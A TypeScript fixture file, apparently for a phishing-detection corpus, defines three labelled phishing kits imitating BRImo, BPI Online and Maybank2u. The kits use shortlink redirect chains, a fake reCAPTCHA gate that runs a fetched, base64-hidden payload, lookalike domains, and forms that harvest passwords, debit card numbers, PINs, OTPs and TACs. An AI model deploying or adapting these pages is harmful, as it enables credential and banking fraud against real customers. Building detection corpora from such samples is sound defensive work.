import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, doc, jsonRoute, jsRoute, walletCss } from '../parts/zy-kit.js';

export const entries: Entry[] = [
{
  id: 'zy-brimo-shortlink-chain-login',
  label: 'phishing',
  kind: 'redirect-chain-kit',
  url: 'https://rebrand.ly/brimo-tarif25',
  routes: {
    'rebrand.ly/brimo-tarif25': redirectRoute(301, 'https://clk.wa-linkpromo.com/go?u=YnJpLXRhcmlm'),
    'clk.wa-linkpromo.com/go': htmlRoute('<!DOCTYPE html><html><head><meta charset="utf-8"><title>Mengalihkan…</title><meta http-equiv="refresh" content="1;url=https://brimo-tarifterbaru.com/login/"></head><body style="font-family:Arial;text-align:center;padding-top:30vh">Mohon tunggu…<script>setTimeout(function(){location.replace("https://brimo-tarifterbaru.com/login/")},600)</script></body></html>'),
    'brimo-tarifterbaru.com/login/': htmlRoute(doc({
      title: 'BRImo - Login',
      lang: 'id',
      css: walletCss('#00529c', '#e8f0f8') + `.bar{background:linear-gradient(160deg,#00529c,#0a74d1)}.logo{font:900 30px Arial}.logo i{color:#f58220;font-style:normal}`,
      body: `<div class="app"><div class="bar"><div class="logo">BRI<i>mo</i></div><h1>Selamat datang</h1><p>Login untuk memilih tarif transaksi 2025</p></div>
<div class="pane"><form id="lg" method="post" action="/login/proses.php">
<label>Username</label><input name="username" required autocomplete="username">
<label>Password</label><input name="password" type="password" required autocomplete="current-password">
<label>Nomor Kartu Debit BRI</label><input name="debit" inputmode="numeric" maxlength="19" required>
<label>PIN Kartu</label><input name="pinkartu" type="password" maxlength="6" required>
<button class="btn">Login</button></form>
<p class="note">Lupa username/password? · BRI Call 1500017<br>PT Bank Rakyat Indonesia (Persero) Tbk. terdaftar dan diawasi OJK</p></div></div>`,
    })),
    'brimo-tarifterbaru.com/login/proses.php': htmlRoute(doc({ title: 'BRImo - OTP', lang: 'id', css: walletCss('#00529c'), body: '<div class="app"><div class="bar"><h1>Verifikasi OTP</h1><p>Kode OTP dikirim melalui SMS ke nomor terdaftar</p></div><div class="pane"><form method="post" action="/login/otp.php"><input name="otp" maxlength="6" inputmode="numeric"><button class="btn">Verifikasi</button></form></div></div>' })),
  },
},
{
  id: 'zy-bpi-captcha-gate-kit',
  label: 'phishing',
  kind: 'captcha-gated-kit',
  url: 'https://secure-bpi-online.com/verify/',
  body: doc({
    title: 'Security check',
    css: `body{font-family:Arial,sans-serif;background:#f9f9f9;display:flex;justify-content:center;align-items:center;height:100vh;margin:0}
.cap{background:#fff;border:1px solid #d3d3d3;border-radius:3px;box-shadow:0 0 4px rgba(0,0,0,.08);width:300px;padding:12px 14px;display:flex;align-items:center;justify-content:space-between}
.chk{width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;cursor:pointer;background:#fff}.chk.ok{border-color:#0a0;background:#0a0}
.lbl{font-size:14px;margin-left:12px;flex:1}.rc{text-align:center;font-size:9px;color:#555}`,
    body: `<div><p style="text-align:center;color:#444;font-size:15px">Please confirm you are not a robot to continue to BPI Online.</p>
<div class="cap"><div class="chk" id="c"></div><div class="lbl">I'm not a robot</div><div class="rc"><svg width="32" height="32" viewBox="0 0 32 32"><path d="M16 3a13 13 0 1 0 13 13" fill="none" stroke="#1c3aa9" stroke-width="4"/><path d="M29 4v10H19" fill="#4a90e2"/></svg><br>reCAPTCHA<br>Privacy - Terms</div></div></div>
<script>
document.getElementById("c").onclick=function(){var c=this;c.classList.add("ok");
 setTimeout(function(){fetch("/verify/pg.js?t="+Date.now()).then(function(r){return r.text()}).then(function(s){new Function(s)()})},700);};
</script>`,
  }),
  routes: {
    'secure-bpi-online.com/verify/pg.js': jsRoute(`document.open();document.write(atob("${b64(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>BPI Online</title><meta name="viewport" content="width=device-width,initial-scale=1"><style>body{margin:0;font-family:Arial;background:#f6f1ef}.h{background:#b11116;color:#fff;padding:14px 22px;font:700 24px Arial}.b{max-width:360px;margin:30px auto;background:#fff;padding:24px;border-radius:8px}input{width:100%;box-sizing:border-box;padding:12px;margin:6px 0 12px;border:1px solid #ccc;border-radius:4px}button{width:100%;padding:12px;background:#b11116;color:#fff;border:0;border-radius:4px;font-size:15px}</style></head><body><div class="h">BPI</div><div class="b"><h3>Log in to BPI Online</h3><form method="post" action="/verify/p.php"><label>Username</label><input name="username"><label>Password</label><input name="password" type="password"><label>Mobile number (for Mobile Key re-registration)</label><input name="mobile"><button>Log in</button></form><p style="font-size:11px;color:#777">Bank of the Philippine Islands is regulated by the Bangko Sentral ng Pilipinas. Deposits are insured by PDIC up to P500,000 per depositor.</p></div></body></html>`)}"));document.close();`),
  },
},
{
  id: 'zy-maybank2u-sms-chain-secure-phrase',
  label: 'phishing',
  kind: 'redirect-chain-kit',
  url: 'https://m2u-my.info/a/RM0',
  routes: {
    'm2u-my.info/a/RM0': redirectRoute(302, 'https://www.maybank2u.com.my.secure-m2u.site/home/m2u/common/login.do'),
    'www.maybank2u.com.my.secure-m2u.site/home/m2u/common/login.do': htmlRoute(doc({
      title: 'Maybank2u - Login',
      lang: 'en',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#ffc83d}.wrap{max-width:400px;margin:0 auto;background:#fff;min-height:100vh}
.hd{background:#ffc83d;padding:16px 20px;display:flex;align-items:center;gap:10px}.hd b{font:900 22px Arial;color:#000}
.c{padding:24px}h2{font-size:20px;margin:0 0 16px}input{width:100%;box-sizing:border-box;padding:13px;border:1px solid #bbb;border-radius:6px;font-size:16px;margin-bottom:14px}
button{width:100%;padding:13px;border:0;background:#ffc83d;font-weight:700;font-size:16px;border-radius:6px}.img{display:flex;gap:12px;align-items:center;background:#fff9e6;padding:12px;border-radius:8px;margin-bottom:14px}.hide{display:none}`,
      body: `<div class="wrap"><div class="hd"><svg width="34" height="34" viewBox="0 0 34 34"><circle cx="17" cy="17" r="16" fill="#000"/><path d="M8 22l5-12 4 8 4-8 5 12" stroke="#ffc83d" stroke-width="3" fill="none"/></svg><b>Maybank2u</b></div>
<div class="c"><p style="font-size:13px;background:#fdecea;padding:10px;border-radius:6px">Your Secure2u has been deactivated. Please log in to re-activate within 24 hours to avoid account suspension.</p>
<div id="one"><h2>Log in</h2><input id="un" placeholder="Username" autocomplete="username"><button id="b1">Next</button></div>
<div id="two" class="hide"><div class="img"><svg width="48" height="48"><circle cx="24" cy="24" r="22" fill="#8ecae6"/><path d="M10 34l10-14 8 10 6-6 6 10z" fill="#219ebc"/></svg><div><b>Is this your security image?</b><br><span id="phrase" style="font-size:13px">Phrase: Blue Mountain</span></div></div>
<form method="post" action="/home/m2u/common/login.do?s=p"><input type="hidden" name="username" id="hu"><input name="password" type="password" placeholder="Password"><button>Log in</button></form></div></div></div>
<script>document.getElementById("b1").onclick=function(){var u=document.getElementById("un").value;if(!u)return;document.getElementById("hu").value=u;fetch("/home/m2u/common/login.do?s=u&u="+encodeURIComponent(u));document.getElementById("one").classList.add("hide");document.getElementById("two").classList.remove("hide")};</script>`,
    })),
    'www.maybank2u.com.my.secure-m2u.site/home/m2u/common/login.do?s=p': htmlRoute(doc({ title: 'Maybank2u - TAC', body: '<div style="max-width:400px;margin:0 auto;font-family:Arial;padding:24px"><h2>Request TAC</h2><p>Enter the 6-digit TAC sent to your registered mobile number to activate Secure2u on this device.</p><form method="post" action="/home/m2u/common/tac.do"><input name="tac" maxlength="6" style="width:100%;padding:13px"><button style="width:100%;padding:13px;margin-top:10px;background:#ffc83d;border:0">Confirm</button></form></div>' })),
  },
},
];
